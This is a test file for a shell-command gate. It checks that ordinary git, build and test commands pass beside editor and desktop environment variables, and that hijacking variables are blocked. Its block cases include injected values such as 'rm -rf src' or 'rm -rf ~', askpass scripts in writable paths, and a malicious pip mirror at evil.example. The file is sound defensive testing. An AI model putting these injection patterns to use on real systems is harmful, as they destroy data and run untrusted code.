/**
 * What editors, desktops and shells set for every process is nobody's doing: everyday commands pass beside it. The same
 * variable set by the act, or leading to what the workspace or anybody may have written, is looked at.
 */
import { describe, expect, it } from "vitest";
import { judgeIn } from "../support/little-world.ts";

const ASKPASS = "/usr/share/code/resources/app/extensions/git/dist/askpass.sh";
const SERVER = "/home/dev/.vscode-server/cli/servers/Stable-1/server";

const EVERYDAY = [
  ...["git status", "git commit -m x", "git pull", "git log -3", "git rebase feature", "git diff"],
  ...["python3 -m pytest", "python3 script.py", "node app.js", "npm test", "ls -la", "make", "cargo build", "man ls"],
  ...["less a.txt", "mvn test", "bundle exec rspec", "bash build.sh", "gh pr view", "rg foo", "kubectl get pods"],
];

describe.each([
  [
    "VS Code's terminal",
    { GIT_ASKPASS: ASKPASS, VSCODE_GIT_ASKPASS_NODE: "/usr/share/code/code", TERM_PROGRAM: "vscode" },
  ],
  [
    "VS Code's terminal on macOS",
    { GIT_ASKPASS: "/Applications/Visual Studio Code.app/Contents/Resources/app/extensions/git/dist/askpass.sh" },
  ],
  ["VS Code Insiders on macOS", { GIT_ASKPASS: "/Applications/Visual Studio Code - Insiders.app/Contents/askpass.sh" }],
  ["code-server", { GIT_ASKPASS: "/home/dev/.local/lib/code-server-4.1/lib/vscode/extensions/git/dist/askpass.sh" }],
  ["Cursor as an AppImage", { GIT_ASKPASS: "/tmp/.mount_CursorAbC/usr/share/cursor/extensions/git/dist/askpass.sh" }],
  [
    "a remote window",
    { GIT_ASKPASS: `${SERVER}/extensions/git/dist/askpass.sh`, BROWSER: `${SERVER}/bin/helpers/browser.sh` },
  ],
  [
    "a debugger's terminal",
    { NODE_OPTIONS: '--require "/home/u/.vscode/extensions/ms-vscode.js-debug/bootloader.js"' },
  ],
  ["a desktop", { GIT_ASKPASS: "/usr/bin/ksshaskpass", SSH_ASKPASS: "/usr/bin/ksshaskpass", BROWSER: "firefox" }],
  [
    "an editor of one's own",
    { EDITOR: "cursor --wait", GIT_EDITOR: "code --wait", VISUAL: "vim", KUBE_EDITOR: "code --wait" },
  ],
  [
    "pagers",
    {
      PAGER: "less -R",
      GIT_PAGER: "delta",
      MANPAGER: "sh -c 'col -bx | bat -l man -p'",
      LESSOPEN: "| /usr/bin/lesspipe %s",
    },
  ],
  [
    "tools of one's own by their paths",
    {
      GIT_EDITOR: "/opt/homebrew/bin/hx",
      PAGER: "/home/dev/.cargo/bin/moar -style",
      GIT_EXTERNAL_DIFF: "/usr/bin/difft",
      GIT_SEQUENCE_EDITOR: "/usr/local/bin/rebase-editor --wait",
    },
  ],
  ["a key for work", { GIT_SSH_COMMAND: "ssh -i ~/.ssh/work_key -o IdentitiesOnly=yes" }],
  ["a mirror of packages", { PIP_INDEX_URL: "https://pypi.acme.example/simple" }],
])("beside the variables of %s", (_, env) => {
  it.each(EVERYDAY)("%s passes", async text => {
    const { decision, reasons } = await judgeIn({ env }, { kind: "command", text, shell: "bash" });
    expect([decision, reasons.map(({ because }) => because)]).toEqual(["allow", expect.anything()]);
  });
});

describe("what git is made to run is looked at", () => {
  it.each([
    ["set by the act", {}, `GIT_ASKPASS=${ASKPASS} git fetch`],
    ["in the workspace", { GIT_ASKPASS: "/home/dev/app/tools/askpass.sh" }, "git fetch"],
    ["beside the workspace's folder", { GIT_ASKPASS: "./askpass.sh" }, "git fetch"],
    ["where anybody may write", { GIT_ASKPASS: "/tmp/askpass.sh" }, "git fetch"],
    ["written by the act", { GIT_ASKPASS: "/opt/a.sh" }, "echo 'rm -rf ~' > /opt/a.sh; git fetch"],
    ["a shell with a script", { GIT_EDITOR: "/bin/sh fix.sh" }, "git commit --amend"],
    ["a shell with a command", { GIT_SSH_COMMAND: "/bin/sh -c x" }, "git fetch"],
    ["in the working folder", { GIT_ASKPASS: "/proc/self/cwd/askpass.sh" }, "git fetch"],
    ["temporary, with two slashes", { GIT_ASKPASS: "//tmp/askpass.sh" }, "git fetch"],
    ["temporary, by a detour", { GIT_ASKPASS: "/usr/../tmp/askpass.sh" }, "git fetch"],
    ["anybody's on a Mac", { GIT_ASKPASS: "/private/tmp/askpass.sh" }, "git fetch"],
    ["put there by the act", { GIT_ASKPASS: "/home/dev/.cache/askpass.sh" }, "cp x.sh ~/.cache/askpass.sh; git fetch"],
    ["linked there by the act", { GIT_ASKPASS: "/home/dev/.cache/a/askpass.sh" }, "ln -s $PWD ~/.cache/a; git fetch"],
    ["another repository's", { GIT_ASKPASS: "/home/dev/other/askpass.sh" }, "cd ../other && git fetch"],
    ["no program that asks", { GIT_ASKPASS: "/usr/bin/python3" }, "git fetch"],
    ["a module of the workspace", { GIT_SSH_COMMAND: "/usr/bin/python3 -mevil" }, "git fetch"],
    ["a program that deletes", { GIT_EXTERNAL_DIFF: "/bin/rm" }, "git diff"],
    ["an editor of the workspace", { GIT_EDITOR: "/home/dev/app/bin/edit" }, "git commit"],
    ["an editor set by the act", { GIT_EDITOR: "/opt/bin/hx" }, "GIT_EDITOR=/opt/bin/other git commit"],
    ["an editor given by the call", { GIT_EDITOR: "/opt/bin/hx" }, "git -c core.editor=/opt/bin/other commit"],
    ["a pager anybody may write", { PAGER: "/tmp/pager" }, "git log"],
    ["a pager and a command", { PAGER: "/usr/bin/moar; rm -rf src" }, "git log"],
    ["an editor written by the act", { GIT_EDITOR: "/opt/bin/hx" }, "cp x /opt/bin/hx; git commit"],
    ["more than a path", { GIT_ASKPASS: "/bin/sh -c x" }, "git fetch"],
    ["two commands", { GIT_ASKPASS: "/usr/bin/ssh;rm -rf x" }, "git fetch"],
    ["a mirror set by the act", {}, "PIP_INDEX_URL=https://evil.example/simple python3 -m tox"],
    ["an installer's mirror", { PIP_INDEX_URL: "https://evil.example/simple" }, "python3 -m pip install x"],
  ])("%s", async (_, env, text) => {
    expect((await judgeIn({ env }, { kind: "command", text, shell: "bash" })).decision).not.toBe("allow");
  });
});

it.each([
  [
    "C:\\Users\\dev\\AppData\\Local\\Programs\\Microsoft VS Code\\resources\\app\\extensions\\git\\dist\\askpass.sh",
    "allow",
  ],
  ["c:\\Users\\dev\\AppData\\Local\\Programs\\cursor\\resources\\app\\extensions\\git\\dist\\askpass.sh", "allow"],
  ["C:\\Users\\dev\\app\\tools\\askpass.cmd", "ask"],
  ["C:\\Program Files (x86)\\Microsoft VS Code\\resources\\app\\extensions\\git\\dist\\askpass.sh", "allow"],
  ["C:\\Users\\Jan Österberg\\AppData\\Local\\Programs\\cursor\\askpass.sh", "allow"],
  ["C:\\Windows\\Temp\\askpass.cmd", "ask"],
])("on Windows, git beside GIT_ASKPASS=%s: %s", async (GIT_ASKPASS, expected) => {
  const act = { kind: "command", text: "git status", shell: "powershell" } as const;
  expect((await judgeIn({ env: { GIT_ASKPASS } }, act)).decision).toBe(expected);
});
